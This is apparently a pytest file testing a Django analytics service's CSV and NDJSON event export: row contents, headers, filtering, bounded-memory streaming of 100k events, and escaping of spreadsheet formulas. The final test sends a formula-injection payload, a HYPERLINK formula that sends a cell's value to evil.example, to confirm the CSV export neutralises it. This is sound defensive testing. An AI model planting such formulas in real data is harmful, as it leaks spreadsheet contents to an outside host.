import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.http import StreamingHttpResponse

from events.models import Event
from reports.tests.conftest import CHROME_WINDOWS, event

RANGE = {"startDate": "2024-05-01", "endDate": "2024-05-31"}
EXPORT = "/api/analytics/export"


def _export(client, **params) -> str:
    response = client.get(EXPORT, {**RANGE, **params})
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def test_csv_export_has_a_header_and_one_row_per_event_oldest_first(secret_client, send, registered, other_app):
    send(
        registered,
        [
            event(
                eventId="2f1c3a4e-8d2b-4c1a-9e0f-1a2b3c4d5e6f",
                event="signup",
                userId="ann",
                timestamp="2024-05-30T19:44:10Z",
                url="https://shop.example/join?utm_source=ads",
                referrer="https://www.google.com/search",
                userAgent=CHROME_WINDOWS,
                metadata={"plan": "pro", "seats": 3},
            ),
            event(event="page_view", userId="bob", timestamp="2024-05-02T08:00:00Z"),
            event(event="outside", timestamp="2024-06-01T00:00:00Z"),
        ],
    )
    send(other_app, [event(event="theirs", timestamp="2024-05-10T00:00:00Z")])
    rows = list(csv.DictReader(io.StringIO(_export(secret_client, format="csv"))))
    assert [row["event"] for row in rows] == ["page_view", "signup"]
    signup = rows[1]
    assert signup == {
        **signup,
        "eventId": "2f1c3a4e-8d2b-4c1a-9e0f-1a2b3c4d5e6f",
        "timestamp": "2024-05-30T19:44:10+00:00",
        "distinctId": "ann",
        "userId": "ann",
        "host": "shop.example",
        "path": "/join",
        "referrerHost": "www.google.com",
        "utmSource": "ads",
        "deviceType": "desktop",
        "browser": "Chrome",
        "os": "Windows",
        "ipAddress": "127.0.0.1",
        "source": "api",
    }
    assert json.loads(signup["metadata"]) == {"plan": "pro", "seats": 3}


def test_ndjson_export_is_one_json_object_per_line(secret_client, send, registered):
    send(registered, [event(event="signup", timestamp="2024-05-30T19:44:10Z", metadata={"plan": "pro"})])
    lines = _export(secret_client, format="ndjson").splitlines()
    assert len(lines) == 1
    row = json.loads(lines[0])
    assert (row["event"], row["timestamp"], row["metadata"]) == ("signup", "2024-05-30T19:44:10+00:00", {"plan": "pro"})


def test_export_is_a_named_attachment_of_the_right_type_and_never_cached(secret_client):
    csv_response = secret_client.get(EXPORT, RANGE)
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == 'attachment; filename="events-2024-05-01-2024-05-31.csv"'
    assert "X-Cache" not in csv_response
    ndjson_response = secret_client.get(EXPORT, {**RANGE, "format": "ndjson"})
    assert ndjson_response["Content-Type"] == "application/x-ndjson"


def test_an_event_filter_limits_the_export(secret_client, send, registered):
    send(
        registered,
        [event(event="a", timestamp="2024-05-03T00:00:00Z"), event(event="b", timestamp="2024-05-03T00:00:00Z")],
    )
    lines = _export(secret_client, format="ndjson", event="b").splitlines()
    assert [json.loads(line)["event"] for line in lines] == ["b"]


def _insert_events_in_sql(app_id, count: int) -> None:
    """Rows made by the database itself, one every 20 seconds from 2024-05-01: building 100k model
    instances in Python would take most of this test's time."""
    if connection.vendor == "postgresql":
        event_id, moment, metadata = "gen_random_uuid()", "%s::timestamptz + i * interval '20 seconds'", "::jsonb"
    else:
        event_id, moment, metadata = "lower(hex(randomblob(16)))", "datetime(%s, '+' || (i * 20) || ' seconds')", ""
    # No "%" in this SQL: Django's cursors read it as a placeholder.
    columns = [field.column for field in Event._meta.concrete_fields if field.column != "id"]
    values = dict.fromkeys(columns, "''") | {
        "app_id": "%s",
        "event_id": event_id,
        "name": "'page_view'",
        "distinct_id": "'user' || (i - i / 5000 * 5000)",
        "user_id": "'user' || (i - i / 5000 * 5000)",
        "timestamp": moment,
        "received_at": moment,
        "url": "'https://shop.example/pricing'",
        "path": "'/pricing'",
        "ip": "NULL",
        "user_agent": "%s",
        "metadata": f"('{{\"n\": ' || i || '}}'){metadata}",
        "source": "'api'",
    }
    start = Event._meta.get_field("timestamp").get_db_prep_value(datetime(2024, 5, 1, tzinfo=UTC), connection)
    app = Event._meta.get_field("app").get_db_prep_value(app_id, connection)
    with connection.cursor() as cursor:
        cursor.execute(
            f"WITH RECURSIVE seq(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM seq WHERE i < {count - 1}) "  # noqa: S608
            f"INSERT INTO events_event ({', '.join(columns)}) SELECT {', '.join(values[c] for c in columns)} FROM seq",
            [app, start, start, CHROME_WINDOWS],
        )


# On the Django database only: ClickHouse's streaming memory is measured in clickhouse_store/tests
# (200k rows, both engines), and a 100k-event copy into ClickHouse would add a minute here.
@pytest.mark.parametrize("analytics_store", ["django"], indirect=True)
def test_exporting_100k_events_streams_in_bounded_memory(secret_client, registered):
    _insert_events_in_sql(registered.app.id, 100_000)
    response = secret_client.get(EXPORT, {**RANGE, "format": "csv"})
    assert isinstance(response, StreamingHttpResponse)

    tracemalloc.start()
    try:
        lines = size = 0
        for chunk in response.streaming_content:
            lines += chunk.count(b"\n")
            size += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == 1 + 100_000
    # Holding the rows would take far more than the output's own size (~17 MB); streaming holds a
    # fetch of 2000 rows and one 64 KiB block.
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB for {size / 1e6:.1f} MB of CSV"
    assert size > 2 * peak


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    publishable_client, secret_client, registered
):
    hostile = {
        "event": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
        "userId": "+1-555-0100",
        "anonymousId": "-2+3",
        "sessionId": "@SUM(A1:A9)",
        "timestamp": "2024-05-03T08:00:00Z",
    }
    response = publishable_client.post("/api/analytics/collect", hostile, format="json")  # a browser's key
    assert response.status_code == 201, response.content
    (row,) = csv.DictReader(io.StringIO(_export(secret_client, format="csv")))
    assert (row["event"], row["userId"], row["anonymousId"], row["sessionId"]) == (
        "'" + hostile["event"],
        "'+1-555-0100",
        "'-2+3",
        "'@SUM(A1:A9)",
    )
    assert row["timestamp"] == "2024-05-03T08:00:00+00:00"  # cells that start otherwise are untouched
    (line,) = _export(secret_client, format="ndjson").splitlines()
    assert json.loads(line)["event"] == hostile["event"]  # NDJSON is data for programs: exported as sent
